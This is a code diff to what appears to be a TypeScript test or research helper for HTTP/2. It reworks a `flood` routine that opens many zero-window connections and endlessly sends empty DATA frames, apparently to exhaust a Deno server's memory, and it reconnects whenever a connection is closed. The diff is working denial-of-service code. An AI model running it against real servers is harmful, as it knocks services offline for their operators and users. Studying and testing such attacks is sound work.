@@ -13,7 +13,6 @@ export const NO_WINDOW = [0, 4, 0, 0, 0, 0];
 /** Header fields by name. Each character stands for one byte. */
 export type Fields = Record<string, string | undefined>;
 
-/** The default fields of a request. */
 const REQUEST: Fields = {
   ":method": "GET",
   ":scheme": "http",
@@ -21,18 +20,12 @@ const REQUEST: Fields = {
   ":authority": "board",
 };
 
-/**
- * Encodes a request without a body.
- *
- * @param fields Replace those of `GET /datasensor`; undefined omits a field.
- * @param more Bytes to append to the encoded fields.
- */
+/** Encodes a request with some other fields (undefined omits one) and more bytes. */
 export function request(stream: number, fields?: Fields, more: number[] = []) {
   const block = [...encodeFields(fields), ...more];
   return frame(TYPE.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, stream, block);
 }
 
-/** Encodes a frame that cancels a request. */
 export function cancel(stream: number) {
   return frame(TYPE.RST_STREAM, 0, stream, [0, 0, 0, 8]); // CANCEL
 }
@@ -60,6 +53,14 @@ function frame(type: number, flags: number, stream: number, payload: number[]) {
   return bytes;
 }
 
+/**
+ * Empty DATA frames, which a busy machine has no time to encode during an attack. Deno
+ * keeps about 240 bytes of each.
+ */
+const EMPTY_FRAMES = Uint8Array.from(
+  Array(10_000).fill([...frame(TYPE.DATA, 0, 1, [])]).flat(),
+);
+
 /** A connection that uses HTTP/2 from the start, without an upgrade. */
 export class Http2Connection implements Disposable {
   /** Connects, and sends the preface with settings. */
@@ -77,44 +78,33 @@ export class Http2Connection implements Disposable {
     await send(this.connection, await new Blob(frames).bytes());
   }
 
-  /**
-   * Sends a request with empty DATA frames as its body, of which Deno keeps about 240
-   * bytes each.
-   *
-   * @throws {Error} When the server has closed the connection.
-   */
-  async sendEmptyFrames(method: string): Promise<never> {
-    const fields = encodeFields({ ":method": method });
-    await this.send(frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, fields));
-    const frames = Array(10_000).fill(frame(TYPE.DATA, 0, 1, []));
-    const bytes = await new Blob(frames).bytes();
-    while (true) await send(this.connection, bytes);
-  }
-
   [Symbol.dispose](): void {
     this.connection.close();
   }
 }
 
 /**
- * Sends empty DATA frames for a time, and opens each connection again at once when it
- * is closed.
- *
- * @param connections By default, too few to run out of descriptors.
+ * Sends requests with empty DATA frames as their bodies until the end of an attack, and
+ * opens each connection again at once when it is closed.
  */
 export async function flood(
   port: number,
   method: string,
-  milliseconds: number,
-  connections = 22,
+  end: AbortSignal,
+  connections = 22, // too few to run out of descriptors
 ): Promise<void> {
-  const end = performance.now() + milliseconds;
+  const ended = new Promise((resolve) => end.onabort = resolve);
+  const fields = encodeFields({ ":method": method });
+  const start = frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, fields);
   await Promise.all(Array.from({ length: connections }, async () => {
-    while (performance.now() < end) {
+    while (!end.aborted) {
       try {
-        using connection = await Http2Connection.open(port, NO_WINDOW);
-        const sent = connection.sendEmptyFrames(method);
-        await Promise.race([sent, delay(Math.max(0, end - performance.now()))]);
+        using opened = await Http2Connection.open(port, NO_WINDOW);
+        await opened.send(start);
+        const sendFrames = async () => {
+          while (true) await send(opened.connection, EMPTY_FRAMES);
+        };
+        await Promise.race([sendFrames(), ended]);
       } catch {
         await delay(1); // it is refused or closed
       }
